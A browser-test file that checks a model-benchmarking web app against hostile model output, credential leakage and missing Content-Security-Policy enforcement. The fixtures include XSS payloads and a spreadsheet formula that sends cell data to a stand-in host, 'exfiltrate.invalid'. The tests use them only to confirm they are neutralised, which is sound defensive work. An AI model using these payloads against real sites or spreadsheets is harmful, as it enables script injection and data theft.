// Hostile model output stays text, the Hugging Face token goes nowhere but the Authorization header of
// requests to Hugging Face, and the built app's Content-Security-Policy blocks inline script.
// Everything is offline: the sandbox on 127.0.0.1, Hugging Face's hosts answered by page.route.
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page, Request, Route } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { CONTENT_SECURITY_POLICY } from "../../vite.config";
import { parseCsvRows, runScenarioInApp, saveScenarioThroughUi, dumpDatabase, startBrowserSession, type BrowserSession, type Servers, downloadedBytes } from "./harness";

const SENTINEL_TOKEN = "hf_SENTINELtokenMustNotLeak0123456789";
const HUGGING_FACE_HOSTS = new Set(["huggingface.co", "router.huggingface.co"]);
const IMG_PAYLOAD = `<img src=x onerror="window.__evil=1">`;
const SCRIPT_PAYLOAD = `<script>window.__evil=1</script>`;
const LINK_PAYLOAD = `[click](javascript:window.__evil=1)`;
/** What a hostile server puts in an error event: the message reaches the records table. */
const HOSTILE_ERROR = `<img src=x onerror="window.__evil=2"><script>window.__evil=2</script>`;
const HOSTILE_LABEL = `Evil <img src=x onerror="window.__evil=3">`;
/** An answer a spreadsheet would run as a formula if the CSV export passed it on as is. */
const FORMULA_OUTPUT = `=HYPERLINK("http://exfiltrate.invalid/?"&A1,"click")`;

let session: BrowserSession;
let servers: Servers;
let page: Page;

interface SeenRequest {
  url: string;
  method: string;
  headers: Record<string, string>;
  body: string;
}
const requests: SeenRequest[] = [];
const consoleMessages: string[] = [];
const navigatedUrls: string[] = [];

beforeAll(async () => {
  session = await startBrowserSession("security", { sandboxTimeScale: 0.2 });
  ({ servers, page } = session);
  page.on("request", (request) => void recordRequest(request));
  page.on("console", (message) => consoleMessages.push(`${message.type()}: ${message.text()} ${message.location().url}`));
  page.on("pageerror", (error) => consoleMessages.push(`pageerror: ${error.message}\n${error.stack ?? ""}`));
  page.on("framenavigated", (frame) => navigatedUrls.push(frame.url()));
  await page.route("https://huggingface.co/**", answerHub);
  await page.route("https://router.huggingface.co/**", answerRouter);
  await page.route(`${servers.profileUrl("hostile")}/**`, answerHostileStream);
  await page.route(`${servers.profileUrl("formula")}/**`, answerFormulaStream);
  await servers.openApp(page);
}, 120_000);

afterAll(async () => {
  await session?.close();
});

async function recordRequest(request: Request): Promise<void> {
  const seen: SeenRequest = { url: request.url(), method: request.method(), headers: {}, body: request.postData() ?? "" };
  requests.push(seen);
  seen.headers = await request.allHeaders().catch(() => request.headers());
}

const CORS_HEADERS = {
  "access-control-allow-origin": "*",
  "access-control-allow-headers": "authorization, content-type, x-hf-bill-to",
  "access-control-allow-methods": "GET, POST, OPTIONS",
};

async function answerPreflight(route: Route): Promise<boolean> {
  if (route.request().method() !== "OPTIONS") return false;
  await route.fulfill({ status: 204, headers: CORS_HEADERS });
  return true;
}

/** The Hub's model lookup: every model is live on every provider the scenarios use. */
async function answerHub(route: Route): Promise<void> {
  if (await answerPreflight(route)) return;
  const providers = ["groq", "together", "cerebras"];
  const mapping = Object.fromEntries(providers.map((provider) => [provider, { providerId: `${provider}-model`, status: "live", task: "conversational" }]));
  await route.fulfill({ headers: CORS_HEADERS, json: { _id: "mock", id: "meta-llama/Llama-3.1-8B-Instruct", inferenceProviderMapping: mapping } });
}

function chunk(model: string, delta: Record<string, unknown>, finishReason: string | null): string {
  const body = { id: "chatcmpl-mock", object: "chat.completion.chunk", created: 1714873384, model, choices: [{ index: 0, delta, logprobs: null, finish_reason: finishReason }] };
  return `data:${JSON.stringify(body)}\n\n`;
}

/**
 * The router, shaped like the real exchanges (tests/mocks/hf-router.ts): a streamed or whole chat
 * completion; cerebras rejects the token and, like a careless server, echoes it in the error text.
 */
async function answerRouter(route: Route): Promise<void> {
  if (await answerPreflight(route)) return;
  const request = route.request();
  if (request.url().includes("/cerebras/")) {
    const token = (await request.allHeaders()).authorization?.replace(/^Bearer /, "") ?? "";
    await route.fulfill({ status: 401, headers: CORS_HEADERS, json: { error: { message: `Invalid API key ${token}`, type: "invalid_request_error" } } });
    return;
  }
  const body = request.postDataJSON() as { model: string; stream?: boolean };
  const tokens = ["Time", " to", " first", " token", "."];
  if (body.stream) {
    const events = [
      chunk(body.model, { role: "assistant", content: "" }, null),
      ...tokens.map((token) => chunk(body.model, { content: token }, null)),
      chunk(body.model, {}, "stop"),
      `data:${JSON.stringify({ id: "chatcmpl-mock", object: "chat.completion.chunk", created: 1714873384, model: body.model, choices: [], usage: { prompt_tokens: 21, completion_tokens: tokens.length, total_tokens: 26 } })}\n\n`,
      "data:[DONE]\n\n",
    ];
    await route.fulfill({ headers: { ...CORS_HEADERS, "content-type": "text/event-stream" }, body: events.join("") });
    return;
  }
  await route.fulfill({
    headers: CORS_HEADERS,
    json: {
      id: "chatcmpl-mock",
      object: "chat.completion",
      created: 1714873384,
      model: body.model,
      choices: [{ index: 0, message: { role: "assistant", content: tokens.join("") }, logprobs: null, finish_reason: "stop" }],
      usage: { prompt_tokens: 21, completion_tokens: tokens.length, total_tokens: 26 },
    },
  });
}

/** An OpenAI-compatible server that streams a token, then an error event whose message is markup. */
async function answerHostileStream(route: Route): Promise<void> {
  if (await answerPreflight(route)) return;
  const events = [chunk("m", { role: "assistant", content: "Hello" }, null), `data:${JSON.stringify({ error: { message: HOSTILE_ERROR, type: "server_error" } })}\n\n`];
  await route.fulfill({ headers: { ...CORS_HEADERS, "content-type": "text/event-stream" }, body: events.join("") });
}

/** A complete, well-formed stream whose whole answer is a spreadsheet formula. */
async function answerFormulaStream(route: Route): Promise<void> {
  if (await answerPreflight(route)) return;
  const events = [chunk("m", { role: "assistant", content: "" }, null), chunk("m", { content: FORMULA_OUTPUT }, null), chunk("m", {}, "stop"), "data:[DONE]\n\n"];
  await route.fulfill({ headers: { ...CORS_HEADERS, "content-type": "text/event-stream" }, body: events.join("") });
}

async function download(testId: string): Promise<string> {
  const [file] = await Promise.all([page.waitForEvent("download"), page.getByTestId(testId).click()]);
  return (await downloadedBytes(file)).toString("utf8");
}

/** Opens a finished run's report and waits for its tables. */
async function openReport(runId: string): Promise<void> {
  await page.evaluate((hash) => (window.location.hash = hash), `#/compare/${encodeURIComponent(runId)}`);
  await page.getByTestId("summary-table").waitFor();
}

describe("hostile model output on the compare page", () => {
  // The run both tests read; neither changes it.
  let runId: string;

  beforeAll(async () => {
    await page.evaluate(() => (window.location.hash = "#/"));
    const key = await saveScenarioThroughUi(page, {
      version: 1,
      name: "Hostile output",
      task: "chat-completion",
      targets: [
        { id: "evil", label: HOSTILE_LABEL, endpointUrl: "sandbox:/evil/v1", model: "m" },
        { id: "hostile", endpointUrl: "sandbox:/hostile/v1", model: "m" },
        { id: "formula", endpointUrl: "sandbox:/formula/v1", model: "m" },
      ],
      inputs: ["Say something."],
      parameters: { max_tokens: 40 },
      run: { stream: true, timeoutMs: 5000 },
    });
    const run = await runScenarioInApp(page, key);
    expect(run.status).toBe("completed");
    runId = run.runId;
  }, 60_000);

  it("is shown as literal text and never becomes markup", async () => {
    await openReport(runId);
    await page.getByTestId("records-table").waitFor();
    await page.getByTestId("attempt-output").first().waitFor();

    const outputs = await page.getByTestId("outputs-by-input").innerText();
    for (const payload of [IMG_PAYLOAD, SCRIPT_PAYLOAD, LINK_PAYLOAD, HOSTILE_ERROR]) expect(outputs).toContain(payload);
    const recordsTable = await page.getByTestId("records-table").innerText();
    expect(recordsTable).toContain(HOSTILE_ERROR);
    expect(recordsTable).toContain(HOSTILE_LABEL);
    expect(await page.getByTestId("summary-table").innerText()).toContain(HOSTILE_LABEL);

    const dom = await page.evaluate(() => ({
      evil: (window as { __evil?: unknown }).__evil,
      images: document.querySelectorAll('img[src="x"]').length,
      javascriptLinks: document.querySelectorAll('a[href^="javascript:"]').length,
      scripts: Array.from(document.scripts).map((script) => ({ src: script.src, text: script.textContent ?? "" })),
    }));
    expect(dom.evil).toBeUndefined();
    expect(dom.images).toBe(0);
    expect(dom.javascriptLinks).toBe(0);
    // Only the app's own bundle: no script element without a source, none from elsewhere.
    expect(dom.scripts.length).toBeGreaterThan(0);
    for (const script of dom.scripts) {
      expect(script.src.startsWith(`${servers.site.url}/`)).toBe(true);
      expect(script.text).toBe("");
    }
  });

  it("leaves the records CSV no cell a spreadsheet would run as a formula", async () => {
    await openReport(runId);
    const rows = parseCsvRows(await download("export-records-csv"));
    const formula = rows.find((row) => row.targetId === "formula");
    expect(formula?.status).toBe("ok");
    expect(formula?.output).toBe(`'${FORMULA_OUTPUT}`);
    const hostile = rows.find((row) => row.targetId === "hostile");
    expect(hostile?.errorMessage).toContain(HOSTILE_ERROR);
  });
});

describe("the Hugging Face token", () => {
  // What the user's path showed: the token saved through Settings, then a run of provider targets and
  // both CSV exports. The tests read these and the requests the page sent; none changes them.
  let maskedToken: string;
  let runStatus: string;
  let rejectionShown: boolean;
  let recordsCsv: string;
  let summaryCsv: string;

  beforeAll(async () => {
    await page.evaluate(() => (window.location.hash = "#/settings"));
    await page.getByLabel("Token", { exact: true }).fill(SENTINEL_TOKEN);
    await page.getByRole("button", { name: "Save token" }).click();
    maskedToken = await page.getByTestId("masked-token").innerText();

    await page.evaluate(() => (window.location.hash = "#/"));
    const key = await saveScenarioThroughUi(page, {
      version: 1,
      name: "Providers and a local server",
      task: "chat-completion",
      targets: [
        { id: "groq", provider: "groq", model: "meta-llama/Llama-3.1-8B-Instruct" },
        { id: "together", provider: "together", model: "meta-llama/Llama-3.1-8B-Instruct" },
        { id: "cerebras", provider: "cerebras", model: "meta-llama/Llama-3.1-8B-Instruct" },
        { id: "local", endpointUrl: "sandbox:/fast/v1", model: "m" },
      ],
      inputs: ["Explain time to first token.", "Write a haiku about GPUs."],
      parameters: { max_tokens: 16 },
      run: { repetitions: 2, warmup: 1, concurrency: 4, stream: true, timeoutMs: 10_000 },
    });
    const run = await runScenarioInApp(page, key);
    runStatus = run.status;
    rejectionShown = await page.getByText("Hugging Face rejected the token").isVisible();
    await page.getByTestId("open-comparison").click();
    await page.getByTestId("summary-table").waitFor();
    recordsCsv = await download("export-records-csv");
    summaryCsv = await download("export-summary-csv");
  }, 60_000);

  it("is saved through Settings and shown masked", () => {
    expect(maskedToken).toBe(`hf_…${SENTINEL_TOKEN.slice(-4)}`);
  });

  it("is used for a provider run, whose rejection by one provider is shown", () => {
    expect(runStatus).toBe("completed");
    expect(rejectionShown).toBe(true);
  });

  it("is in neither CSV export, even where a server echoed it", () => {
    expect(recordsCsv.split("\n").length).toBeGreaterThan(4 * 5);
    expect(summaryCsv).toContain("groq");
    for (const csv of [recordsCsv, summaryCsv]) expect(csv).not.toContain(SENTINEL_TOKEN);
    // The echoed key reached the error text the CSV carries, redacted.
    expect(recordsCsv).toContain("Invalid API key [redacted]");
  });

  it("was sent only in the Authorization header of requests to Hugging Face", () => {
    const carrying = requests.filter((request) => JSON.stringify(request).includes(SENTINEL_TOKEN));
    expect(carrying.length).toBeGreaterThan(0);
    for (const request of carrying) {
      expect(HUGGING_FACE_HOSTS.has(new URL(request.url).hostname), request.url).toBe(true);
      expect(request.url).not.toContain(SENTINEL_TOKEN);
      expect(request.body).not.toContain(SENTINEL_TOKEN);
      const headersWithToken = Object.entries(request.headers).filter(([, value]) => value.includes(SENTINEL_TOKEN));
      expect(headersWithToken).toEqual([["authorization", `Bearer ${SENTINEL_TOKEN}`]]);
    }
    // Every inference request to the router carried it (the provider targets did use the token).
    const routerPosts = requests.filter((request) => new URL(request.url).hostname === "router.huggingface.co" && request.method === "POST");
    expect(routerPosts.length).toBe(3 * (2 * 2 + 1));
    expect(routerPosts.every((request) => request.headers.authorization === `Bearer ${SENTINEL_TOKEN}`)).toBe(true);
  });

  it("went to no host but loopback (127.0.0.1 and the sandbox profiles' *.localhost hosts) and Hugging Face's (answered here)", () => {
    const hosts = new Set(requests.map((request) => new URL(request.url).hostname));
    hosts.delete("127.0.0.1");
    for (const host of hosts) if (host.endsWith(".localhost")) hosts.delete(host);
    for (const host of HUGGING_FACE_HOSTS) hosts.delete(host);
    expect([...hosts]).toEqual([]);
  });

  it("is in no address the app navigated to, no console message and no stored row", async () => {
    expect(navigatedUrls.length).toBeGreaterThan(0);
    for (const url of [...navigatedUrls, page.url()]) expect(url).not.toContain(SENTINEL_TOKEN);
    expect(consoleMessages.filter((message) => message.includes(SENTINEL_TOKEN))).toEqual([]);
    const tables = await dumpDatabase(page);
    expect(Object.keys(tables).sort()).toEqual(["blobs", "recordChunks", "recordColumns", "runs", "scenarios"]);
    expect(tables.recordChunks!.length).toBeGreaterThan(0);
    expect(JSON.stringify(tables)).not.toContain(SENTINEL_TOKEN);
    // It is where Settings keeps it, and nowhere else in this browser's storage.
    const storage = await page.evaluate(() => ({ ...localStorage }));
    expect(Object.entries(storage).filter(([, value]) => value.includes(SENTINEL_TOKEN))).toEqual([["providerbench.hfToken", SENTINEL_TOKEN]]);
  });
});

describe("Content-Security-Policy", () => {
  it("ships in the built index.html", async () => {
    const html = await readFile(join(inject("siteDirectory"), "index.html"), "utf8");
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html);
    expect(meta && decodeHtmlAttribute(meta[1]!)).toBe(CONTENT_SECURITY_POLICY);
    // First in <head>: a policy only covers what comes after it.
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<script"));
    const live = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content"));
    expect(live).toBe(CONTENT_SECURITY_POLICY);
  });

  it("blocks inline scripts, inline event handlers and eval, and reports each violation", async () => {
    const probe = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const ran: string[] = [];
      (window as { __cspProbe?: (name: string) => void }).__cspProbe = (name) => ran.push(name);
      const script = document.createElement("script");
      script.textContent = "window.__cspProbe('inline script')";
      document.head.append(script);
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.__cspProbe('inline handler')");
      image.src = "data:image/png;base64,broken";
      document.body.append(image);
      // From a timer, not from this evaluation: DevTools lets code it evaluates use eval whatever the policy says.
      const evalOutcome = await new Promise<string>((resolve) =>
        setTimeout(() => {
          try {
            (0, eval)("window.__cspProbe('eval')");
            resolve("ran");
          } catch (error) {
            resolve(error instanceof EvalError ? "blocked" : String(error));
          }
        }, 0),
      );
      // The inline handler's refusal comes when the image fails to load: wait for all three reports
      // (bounded, so a missing one fails the assertion below rather than hanging).
      const deadline = performance.now() + 5000;
      while (new Set(violations).size < 3 && performance.now() < deadline) {
        await new Promise((resolve) => requestAnimationFrame(resolve));
      }
      script.remove();
      image.remove();
      return { ran, evalOutcome, violations };
    });
    expect(probe.ran).toEqual([]);
    expect(probe.evalOutcome).toBe("blocked");
    expect(new Set(probe.violations)).toEqual(new Set(["script-src-elem", "script-src-attr", "script-src"]));
  });
});

function decodeHtmlAttribute(text: string): string {
  return text.replace(/&#39;/g, "'").replace(/&quot;/g, '"').replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
}
